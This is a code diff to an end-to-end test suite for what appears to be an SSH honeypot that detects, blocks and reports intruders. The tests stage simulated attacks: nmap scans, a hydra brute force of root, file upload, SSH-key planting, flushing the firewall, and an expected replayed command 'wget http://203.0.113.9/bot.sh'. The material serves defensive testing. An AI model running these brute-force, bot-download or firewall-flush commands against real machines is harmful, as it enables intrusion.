@@ -34,12 +34,12 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
 
   beforeAll(async () => {
     stage = openStage();
-    const { lab } = stage;
-    lab.addAttackers([`${SECOND}/15`, `${THIRD}/15`, `${GATEWAY}/15`]);
-    lab.run('defender', ['ip', 'route', 'add', 'default', 'via', GATEWAY]);
+    const { network } = stage;
+    network.addAttackers([`${SECOND}/15`, `${THIRD}/15`, `${GATEWAY}/15`]);
+    network.run('defender', ['ip', 'route', 'add', 'default', 'via', GATEWAY]);
     tool = join(stage.attackerFolder, 'tool.bin');
     writeFileSync(tool, Buffer.from('7f454c4602010100 not a program, and never run'));
-    probe = await PacketProbe.start(lab);
+    probe = await PacketProbe.start(network);
     await stage.start(WATCHFUL);
   });
   afterAll(() => stage.close());
@@ -47,7 +47,7 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
   const bringIn = (as: Login, options?: AttackOptions) => upload(stage, as, tool, '/root/tool.bin', options);
   /** Guesses from another address until the decoy takes the password, as a bot would, and puts a file onto the machine. */
   const breakIn = async (source: string, options: AttackOptions = {}): Promise<void> => {
-    const guess: Login = { host: stage.lab.defender4, password: 'letmein', source };
+    const guess: Login = { host: stage.network.defender4, password: 'letmein', source };
     for (let tries = 0; tries < 6; tries++) {
       if (!(await stage.attack(ssh(guess, 'id'), options)).stdout.includes('uid=0(root)')) continue;
       await bringIn(guess, options);
@@ -57,7 +57,7 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
   };
 
   it('looks like OpenSSH on Debian to nmap', async () => {
-    const seen = await stage.attack(['nmap', '-n', '-Pn', '-sV', '-p', String(PORT), stage.lab.defender4], {
+    const seen = await stage.attack(['nmap', '-n', '-Pn', '-sV', '-p', String(PORT), stage.network.defender4], {
       timeoutMs: 60_000,
     });
     expect(seen.stdout).toMatch(/2222\/tcp open\s+ssh\s+OpenSSH 9\.2p1 Debian/);
@@ -67,12 +67,25 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
     const list = join(stage.attackerFolder, 'passwords');
     writeFileSync(list, `${PASSWORDS.join('\n')}\n`);
     const found = await stage.attack(
-      ['hydra', '-I', '-t', '4', '-f', '-l', 'root', '-P', list, '-s', String(PORT), `ssh://${stage.lab.defender4}`],
+      [
+        'hydra',
+        '-I',
+        '-t',
+        '4',
+        '-f',
+        '-l',
+        'root',
+        '-P',
+        list,
+        '-s',
+        String(PORT),
+        `ssh://${stage.network.defender4}`,
+      ],
       { timeoutMs: 90_000 },
     );
     const password = /login: root\s+password: (\S+)/.exec(found.stdout)?.[1];
-    expect(PASSWORDS, found.stdout + found.stderr).toContain(password);
-    login = { host: stage.lab.defender4, password: password! };
+    expect(PASSWORDS).toContain(password);
+    login = { host: stage.network.defender4, password: password! };
   });
 
   it('plays a machine to whoever comes in with it', async () => {
@@ -98,9 +111,9 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
   });
 
   it('cuts them off when they bring in a file: new and established connections get nothing', async () => {
-    const source = stage.lab.attacker4;
+    const source = stage.network.attacker4;
     expect(await probe.exchange(source)).toBe(true);
-    const open = openTerminal(stage, login);
+    const open = openTerminal([...stage.network.inAttacker, ...ssh(login)]);
     await expect.poll(() => open.shown, { timeout: 15_000 }).toContain('# ');
     await bringIn(login);
     expect(await probe.dropped(source)).toBe(true);
@@ -116,7 +129,7 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
   });
 
   it('tells it as one incident', async () => {
-    story = await stage.incidentOf(stage.lab.attacker4);
+    story = await stage.incidentOf(stage.network.attacker4);
     expect(story).toMatchObject({ status: 'contained', sourceVerified: true });
     expect(story.title).toMatch(
       /^SSH (?:brute force|break-in) from 198\.18\.0\.2, logged in as root, brought in and ran a file, planted an SSH key/,
@@ -155,15 +168,15 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
     expect(replayed.stdout).toContain('uname -a');
     expect(replayed.stdout).toContain('wget http://203.0.113.9/bot.sh');
     const audit = await stage.cli('audit', 'verify');
-    expect(audit, audit.stderr).toMatchObject({ code: 0 });
+    expect(audit.code).toBe(0);
   });
 
   it('lets them back in when the time is up, onto the machine as they left it', async () => {
-    expect(await probe.passes(stage.lab.attacker4, TTL_MS + 10_000)).toBe(true);
+    expect(await probe.passes(stage.network.attacker4, TTL_MS + 10_000)).toBe(true);
     await expect.poll(() => stage.blocks(), POLL).toEqual([]);
     const visit = await stage.attack(ssh(login, 'cat /root/note; cat /root/tool.bin; tail -1 .ssh/authorized_keys'));
     expect(visit.stdout).toBe(`mine\n7f454c4602010100 not a program, and never run${KEY}\n`);
-    const { status, sessions } = await stage.incidentOf(stage.lab.attacker4);
+    const { status, sessions } = await stage.incidentOf(stage.network.attacker4);
     expect(status).toBe('open');
     expect(sessions.length).toBeGreaterThan(story.sessions.length);
   });
@@ -179,9 +192,9 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
   it('mends a firewall that somebody flushed', async () => {
     await breakIn(THIRD);
     expect(await probe.dropped(THIRD)).toBe(true);
-    stage.lab.run('defender', ['nft', 'flush', 'ruleset']);
+    stage.network.run('defender', ['nft', 'flush', 'ruleset']);
     expect(await probe.dropped(THIRD, 5000)).toBe(true);
-    expect(stage.lab.run('defender', ['nft', 'list', 'ruleset'])).toContain(THIRD);
+    expect(stage.network.run('defender', ['nft', 'list', 'ruleset'])).toContain(THIRD);
   });
 
   it('refuses to block the gateway and the machine itself, and says so', async () => {
@@ -192,7 +205,7 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
     expect(await probe.passes(GATEWAY)).toBe(true);
     expect(stage.lines).toContainEqual(expect.objectContaining({ t: 'action', target: GATEWAY, status: 'refused' }));
 
-    const { defender4 } = stage.lab;
+    const { defender4 } = stage.network;
     await breakIn(defender4, { from: 'defender' });
     await expect.poll(() => refused(defender4), POLL).toContain('an address of this machine');
     expect((await stage.incidentOf(defender4)).status).toBe('open');
@@ -201,7 +214,7 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
 
   it('is the same machine after a restart, with the same keys and the attacker’s files', async () => {
     const keys = async (): Promise<string[]> =>
-      (await stage.attack(['ssh-keyscan', '-p', String(PORT), stage.lab.defender4])).stdout
+      (await stage.attack(['ssh-keyscan', '-p', String(PORT), stage.network.defender4])).stdout
         .split('\n')
         .filter((line) => line !== '' && !line.startsWith('#'))
         .toSorted();
@@ -211,6 +224,6 @@ describe.skipIf(namespacesUnavailable() !== undefined)('one attacker, end to end
     expect(await keys()).toEqual(before);
     const visit = await stage.attack(ssh(login, 'cat /root/note; ls /root/tool.bin'));
     expect(visit.stdout).toBe('mine\n/root/tool.bin\n');
-    expect(await stage.incidentsOf(stage.lab.attacker4)).toHaveLength(1);
+    expect(await stage.incidentsOf(stage.network.attacker4)).toHaveLength(1);
   });
 });
